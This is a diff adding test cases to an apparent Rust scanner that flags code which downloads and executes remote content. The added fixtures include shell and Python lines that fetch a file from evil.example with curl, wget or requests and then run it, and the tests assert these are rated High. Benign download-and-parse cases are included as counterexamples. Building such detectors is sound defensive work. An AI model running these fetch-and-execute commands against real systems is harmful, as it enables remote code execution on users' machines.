@@ -76,6 +76,20 @@ fn every_spelling_of_fetching_and_running_is_found() {
             "<?php eval(file_get_contents('https://evil.example/x'));",
         ),
         ("x.rb", "eval(URI.open('https://evil.example/x').read)"),
+        ("x.sh", "curl -s -o y https://evil.example/x\nsh y\n"),
+        ("x.sh", "curl -s https://evil.example/x > y\nbash ./y &\n"),
+        (
+            "x.sh",
+            "curl -s https://evil.example/x > y.sh\ntrue; . y.sh\n",
+        ),
+        (
+            "x.sh",
+            "wget -q --output-document=run https://evil.example/x\nchmod 755 run;\n./run\n",
+        ),
+        (
+            "x.py",
+            "r = requests.get('https://evil.example/x')\nopen('/tmp/y', 'wb').write(r.content)\nsubprocess.run(['/tmp/y'])\n",
+        ),
     ] {
         let worst = worst(path, text);
         assert!(worst >= Some(Severity::High), "{text}: {worst:?}");
@@ -115,6 +129,18 @@ fn what_only_looks_like_it_is_not_blocked() {
             "fetch('https://api.example.org/v1').then(r => r.json()).then(show)",
         ),
         ("x.js", "require('child_process').execSync('git status')"),
+        (
+            "x.sh",
+            "curl -s -o all.json https://api.example.org/v1\njq . all.json\n",
+        ),
+        (
+            "x.sh",
+            "curl -s -o test https://api.example.org/v1\njq . test\nmake test\nnpm test\n",
+        ),
+        (
+            "x.py",
+            "r = requests.get('https://api.example.org/v1')\nopen('/tmp/y', 'wb').write(r.content)\nsubprocess.run(['jq', '.', '/tmp/y'])\n",
+        ),
     ] {
         let worst = worst(path, text);
         assert!(worst < Some(Severity::High), "{text}: {worst:?}");
